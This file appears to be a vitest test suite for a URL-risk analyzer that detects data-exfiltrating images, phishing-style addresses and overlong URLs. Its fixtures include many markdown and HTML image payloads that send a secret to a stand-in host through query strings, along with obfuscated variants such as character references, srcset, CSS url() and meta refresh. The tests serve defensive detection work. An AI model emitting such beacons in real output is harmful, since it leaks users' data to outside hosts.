import { describe, expect, it } from 'vitest';
import type { AnalyzerDeps } from '../../src/analyzers/deps.js';
import { htmlTags } from '../../src/analyzers/url-risk/links/html-tags.js';
import { markdownLabels } from '../../src/analyzers/url-risk/links/markdown-labels.js';
import { urlRisk } from '../../src/analyzers/url-risk/url-risk.js';
import { textViews } from '../../src/text/views.js';
import { fc } from '../support/properties.js';

const prepared = await urlRisk.prepare({}, {} as unknown as AnalyzerDeps);
const threatsOf = async (text: string) => {
  const { output } = await prepared.analyze(textViews(text), { signal: new AbortController().signal });
  return output.urls.flatMap((url) => url.threat_types);
};
const leak = 'https://status.acme-corp.com/l.png?secret=hunter2horse';
const referenced = leak.replace(':', '&#58;');
const words = 'how the garden looks in spring, ';
const page = 'A paragraph about the opening hours of the library.\n\n'.repeat(700);

describe('an image that carries data away is told', () => {
  it.each([
    ['with a plain alt text', `![status](${leak})`],
    ['with a long alt text', `![${words.repeat(40)}](${leak})`],
    ['with brackets in its alt text', `![a [b] c](${leak})`],
    ['with an escaped bracket in its alt text', `![a \\] c](${leak})`],
    ['with a bracket in code in its alt text', `![a \`]\` b](${leak})`],
    ['in the label of a link', `[![a](${leak})](https://example.org/)`],
    ['by a name, with brackets in its alt text', `![a [b] c][p]\n\n[p]: ${leak}`],
    ['by a name that stands far off', `![status][p]\n\n${page}[p]: ${leak}`],
    ['by a name that is defined far before', `[p]: ${leak}\n\n${page}![status][p]`],
    ['by a name, in character references, that stands far off', `![status][p]\n\n${page}[p]: ${referenced}`],
    [
      'in character references across a cut of the text',
      `${page.slice(0, 32_700)}![${'x\n'.repeat(150)}](${referenced})`,
    ],
    ['with a > in its alt text', `<img alt="a > b" src="${leak}">`],
    ['behind a long attribute', `<img alt="${words.repeat(40)}" class=x src='${leak}'>`],
    ['without quotation marks', `<img class=wide src=${leak}>`],
    ['in a set of images', `<img srcset="https://example.org/${'a'.repeat(900)}.png 1x, ${leak} 2x">`],
    ['in JSON', JSON.stringify({ html: `<img alt="a > b" src="${leak}">` })],
    ['in a tag across a cut of the text', `${page.slice(0, 32_700)}<img alt="${'x'.repeat(100)}" src="${leak}">`],
    ['behind a long path', `![status](https://status.acme-corp.com/${'a/'.repeat(1500)}l.png?secret=hunter2horse)`],
    ['behind a path without an end', `![status](https://status.acme-corp.com/${'a/'.repeat(9000)}l.png?secret=x)`],
  ])('%s', async (_, text) => {
    expect(await threatsOf(text)).toContain('DATA_EXFILTRATION');
  });

  it.each([
    ['a link', `[status](${leak})`],
    ['a link in a tag', `<a title="a > b" href="${leak}">status</a>`],
    ['a text beside an image', `![logo](https://status.acme-corp.com/logo.png) ${leak}`],
    ['a text behind a tag', `<img alt="a" src="/logo.png"> ${leak}`],
    ['a link behind an image of a name', `![logo] and [status](${leak})`],
    ['what an attribute tells', `<img alt="see ${leak}" src="/logo.png">`],
    ['an image in code', `<span title="x">${leak}</span>`],
  ])('unlike %s', async (_, text) => {
    expect(await threatsOf(text)).not.toContain('DATA_EXFILTRATION');
  });

  const spaces = ' '.repeat(5);
  const long = 'name '.repeat(150);
  it.each([
    ['before a value', `<img src=${spaces}"${leak}">`],
    ['before the sign of a value', `<img src${spaces}="${leak}">`],
    ['as line breaks before a value', `<img src=\r\n\r\n"${leak}">`],
    ['as escaped line breaks before a value', JSON.stringify({ html: `<img src=\n"${leak}">` })],
    ['in a style', `<p style="background: url(${spaces}${leak})">`],
    ['before what a style takes in', `@import${spaces}"${leak}"`],
    ['before nothing that a style takes in', `@import"${leak}"`],
    ['in parentheses', `![a](${spaces}${leak})`],
    ['in parentheses of a quotation', `> ![a](\n> ${leak})`],
    ['before a definition', `![a][r]\n\n[r]:\n${spaces}${leak}`],
    ['of a definition in a quotation', `> ![a][r]\n>\n> [r]:\n> ${leak}`],
    ['in a name', `![a][my  name]\n\n[my name]: ${leak}`],
    ['as a line break in a name', `![a][my\nname]\n\n[My name]: ${leak}`],
    ['in a long name', `![a][${long}]\n\n[${long}]: ${leak}`],
    ['as escaped line breaks around a definition', JSON.stringify({ md: `![a][my\nname]\n\n[my name]: ${leak}` })],
  ])('whatever white space stands %s', async (_, text) => {
    expect(await threatsOf(text)).toContain('DATA_EXFILTRATION');
  });

  it.each([
    ['a definition in a quotation', `![a][r]\n\n> [r]: ${leak}`],
    ['a definition in a list', `![a][r]\n\n- [r]: ${leak}`],
    ['a definition in a numbered list of a quotation', `![a][r]\n\n> 12. [r]: ${leak}`],
    ['a name with a bracket', `![a][r\\]x]\n\n[r\\]x]: ${leak}`],
    ['a name in other letters', `![a][Straße]\n\n[STRASSE]: ${leak}`],
    ['a filter', `<svg><feImage href="${leak}"/></svg>`],
    ['a shape of another file', `<svg><use xlink:href="${leak}"/></svg>`],
    ['a set of images in a style', `<p style="background: image-set('/a.png' 1x, '${leak}' 2x)">`],
    ['a page that moves on', `<meta http-equiv=refresh content="0;${leak}">`],
    ['a page that moves on by name', `<meta http-equiv=refresh content="1.5, URL     = '${leak}'">`],
  ])('in %s', async (_, text) => {
    expect(await threatsOf(text)).toContain('DATA_EXFILTRATION');
  });

  const [image, data] = ['https://status.acme-corp.com/l.png', 'secret=hunter2horse'];
  it.each([
    ...['\n', '\t', '\r', "x='&", 'x=>&', 'x=1&lt;&', 'x=1 &', 'x=,https:&', 'x=。&'].map((sign) => [
      `<img src="${image}?${sign}${data}">`,
    ]),
    ...["x='&", 'x=`&', 'x=“&', 'x=‹&', 'x=，&', 'x=。&', 'x=(")&'].map((sign) => [`![a](${image}?${sign}${data})`]),
    [`![a](<${image}?q=a b&${data}>)`],
    [`![a](<${image}?q=\\>&${data}>)`],
    [`![a][r]\n\n[r]: ${image}?x='&${data}`],
    [`<img src=${image}?x='&${data}>`],
    [`<img srcset="/a.png 1x,\n${image}?x='&${data} 2x">`],
    [`<meta http-equiv=refresh content="0;url='${image}?x=“&${data}'">`],
    [`<p style="background: url('${image}?x= &${data}')">`],
    [`<p style="background: url(${image}?x=“&${data})">`],
    [`<img src="${image.replace('t', 't\n')}?${data}">`],
    [`<img src="/x" alt=x>![a](${image}?x='&${data} "title")`],
  ])('to the end that the markup gives it: %j', async (text) => {
    expect(await threatsOf(text)).toContain('DATA_EXFILTRATION');
  });

  it('or suspected where what its markup holds is longer than what is read', async () => {
    expect(await threatsOf(`<img src="${image}${'\n'.repeat(9000)}?a=b">`)).toEqual(['DATA_EXFILTRATION']);
    expect(await threatsOf(`![a](${image}?x='${'a'.repeat(9000)})`)).toContain('DATA_EXFILTRATION');
  });

  it.each([
    ['a title', `![a](${image} "${data}")`],
    ['a title of a definition', `![a][r]\n\n[r]: ${image} '?${data}'`],
    ['what stands behind it', `![a](${image}) '?${data}'`],
    ['another attribute', `<img src='${image}' alt="?${data}">`],
    ['the next line of a string', JSON.stringify({ md: `![a][r]\n\n[r]: ${image}\n?${data}` })],
    ['a description', `<meta name=description content="3 images: ${image} and ?${data}">`],
  ])('and no farther: not to %s', async (_, text) => {
    expect(await threatsOf(text)).toEqual([]);
  });

  it('and a host is found behind any user that an address may have', async () => {
    expect(await threatsOf(`https://paypal.com=${'a'.repeat(4000)}@evil-site.ru/login`)).toContain(
      'SOCIAL_ENGINEERING',
    );
  });

  it('and so is no address of which something was left unread', async () => {
    expect(await threatsOf(`see https://www.iana.org/${'a'.repeat(9000)} now`)).toEqual(['SUSPICIOUS']);
    expect(await threatsOf(`see https://www.iana.org/${'a'.repeat(7000)} now`)).toEqual([]);
  });
});

describe('markup', () => {
  const piece = fc.constantFrom(
    ...[
      '[',
      ']',
      '![',
      '](',
      '](http://a.bc',
      '\\',
      '`',
      '\n',
      '\n\n',
      '<img ',
      '<a href=',
      '"',
      "'",
      '>',
      '=',
      ' ',
      'x',
      '</a>',
      '][',
    ],
  );
  const texts = fc.array(piece, { maxLength: 80 }).map((pieces) => pieces.join(''));

  it('is read alike in one go and place by place, and holds what it says', () => {
    fc.assert(
      fc.property(texts, (text) => {
        const [atOnce, inTurn] = [markdownLabels(text), markdownLabels(text)];
        atOnce.isImage('');
        const [tagsAtOnce, tagsInTurn] = [htmlTags(text), htmlTags(text)];
        tagsAtOnce.around(text.length);
        for (let at = 0; at < text.length; at++) {
          expect(inTurn.endingAt(at)).toEqual(atOnce.endingAt(at));
          const place = tagsInTurn.around(at);
          expect(place).toEqual(tagsAtOnce.around(at));
          if (!place) continue;
          expect(place.valueStart).toBeLessThanOrEqual(at);
          expect(place.tagEnd).toBeGreaterThan(at);
        }
      }),
    );
  });
});
